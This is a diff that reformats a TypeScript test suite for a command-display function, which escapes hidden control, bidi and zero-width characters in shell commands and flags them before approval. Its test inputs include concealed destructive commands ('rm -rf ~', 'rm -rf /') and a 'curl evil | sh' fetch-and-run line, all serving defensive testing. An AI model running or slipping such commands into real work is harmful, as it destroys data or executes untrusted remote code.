@@ -68,7 +68,8 @@ function decode(text: string): string {
 }
 
 /** Characters that must never appear raw in a display (or in safeText output, but for \n and \t there). */
-const RAW_DANGER = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2060-\u2069\u061c\ufeff\u00ad\u00a0\u3164]|\p{Cf}|[\ud800-\udfff]/u; // with the u flag, the last class matches lone surrogates only
+const RAW_DANGER =
+  /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2060-\u2069\u061c\ufeff\u00ad\u00a0\u3164]|\p{Cf}|[\ud800-\udfff]/u; // with the u flag, the last class matches lone surrogates only
 
 const nodeSha = (s: string): string => createHash('sha256').update(s, 'utf8').digest('hex');
 
@@ -76,7 +77,10 @@ describe('displayCommand: commands that hide what runs', () => {
   test('a carriage return and an ANSI erase-line: both shown, with warnings', () => {
     const d = displayCommand('echo safe\r\x1b[2Krm -rf ~');
     expect(d.text).toBe('echo safe\\r\\x1b[2Krm -rf ~');
-    expect(d.warnings).toEqual(['contains a carriage return (\\r)', 'contains an escape character (\\x1b, starts terminal escape sequences)']);
+    expect(d.warnings).toEqual([
+      'contains a carriage return (\\r)',
+      'contains an escape character (\\x1b, starts terminal escape sequences)',
+    ]);
     expect(d).toMatchObject({ length: 22, cut: false, sha256: nodeSha('echo safe\r\x1b[2Krm -rf ~') });
   });
 
@@ -113,7 +117,9 @@ describe('displayCommand: commands that hide what runs', () => {
   });
 
   test('zero-width and other invisible format characters (Cf), tags included', () => {
-    expect(displayCommand('rm\u200b -rf\u200c /\u200d\ufeff\u2060').warnings).toEqual(['contains 5 zero-width characters U+200B, U+200C, U+200D, U+FEFF and 1 more']);
+    expect(displayCommand('rm\u200b -rf\u200c /\u200d\ufeff\u2060').warnings).toEqual([
+      'contains 5 zero-width characters U+200B, U+200C, U+200D, U+FEFF and 1 more',
+    ]);
     const tags = displayCommand('echo hi\u{e0001}\u{e0072}\u{e006d}');
     expect(tags.text).toBe('echo hi\\u{e0001}\\u{e0072}\\u{e006d}');
     expect(tags.warnings).toEqual(['contains 3 invisible format characters U+E0001, U+E0072, U+E006D']);
@@ -180,14 +186,52 @@ describe('displayCommand: unambiguous', () => {
     expect(fake.warnings).toEqual(['contains bidi control U+202E']);
   });
 
-  test('the run markers in a command are escaped, so a marker is always the display\'s own', () => {
+  test("the run markers in a command are escaped, so a marker is always the display's own", () => {
     const d = displayCommand('echo ⟨200 spaces⟩');
     expect(d.text).toBe('echo \\u27e8200 spaces\\u27e9');
     expect(d.warnings).toEqual(['contains ⟨ or ⟩ (shown as \\u27e8, \\u27e9: the display marks runs with them)']);
   });
 
   test('2,000 random commands: no dangerous character is ever shown raw, and an escaped display decodes to the command', () => {
-    const pool = ['a', 'Z', '0', ' ', ' ', ' ', '\\', '⟨', '⟩', 'n', '\n', '\r', '\t', '\x1b', '\x00', '\x7f', '\x85', '\x9b', '\u2028', '\u202e', '\u2066', '\u200b', '\ufeff', '\u00a0', '\u00ad', '\u3164', '\ufe0f', 'é', '日', '😀', '\u{e0041}', '\ud800', '\udc00', '\ue000', '{', '}', 'x'];
+    const pool = [
+      'a',
+      'Z',
+      '0',
+      ' ',
+      ' ',
+      ' ',
+      '\\',
+      '⟨',
+      '⟩',
+      'n',
+      '\n',
+      '\r',
+      '\t',
+      '\x1b',
+      '\x00',
+      '\x7f',
+      '\x85',
+      '\x9b',
+      '\u2028',
+      '\u202e',
+      '\u2066',
+      '\u200b',
+      '\ufeff',
+      '\u00a0',
+      '\u00ad',
+      '\u3164',
+      '\ufe0f',
+      'é',
+      '日',
+      '😀',
+      '\u{e0041}',
+      '\ud800',
+      '\udc00',
+      '\ue000',
+      '{',
+      '}',
+      'x',
+    ];
     for (let i = 0; i < 2_000; i++) {
       let command = '';
       const n = randomInt(1, 60);
@@ -216,7 +260,10 @@ describe('displayCommand: cut', () => {
     const d = displayCommand(`echo ${'a'.repeat(100)}\r\x1b[2Kcurl evil | sh`, { maxChars: 30 });
     expect(d.cut).toBe(true);
     expect(d.text).not.toContain('\\r');
-    expect(d.warnings).toEqual(['contains a carriage return (\\r)', 'contains an escape character (\\x1b, starts terminal escape sequences)']);
+    expect(d.warnings).toEqual([
+      'contains a carriage return (\\r)',
+      'contains an escape character (\\x1b, starts terminal escape sequences)',
+    ]);
   });
 });
 
@@ -235,7 +282,9 @@ describe('summaries, details and the pending approval', () => {
   test('details: a code span, with length, hash and warnings when escaped or cut', () => {
     expect(commandDetails('npm test')).toBe('`npm test`');
     const sha = nodeSha('ls #\u202e fdp.txt');
-    expect(commandDetails('ls #\u202e fdp.txt')).toBe(`\`ls #\\u202e fdp.txt\` (13 characters, sha256 ${sha.slice(0, 12)}; ⚠ contains bidi control U+202E)`);
+    expect(commandDetails('ls #\u202e fdp.txt')).toBe(
+      `\`ls #\\u202e fdp.txt\` (13 characters, sha256 ${sha.slice(0, 12)}; ⚠ contains bidi control U+202E)`,
+    );
     const long = commandDetails('y'.repeat(500));
     expect(long).toMatch(new RegExp(`^\`y{${DETAILS_COMMAND_CHARS - 1}}…\` \\(500 characters, sha256 [0-9a-f]{12}\\)$`));
   });
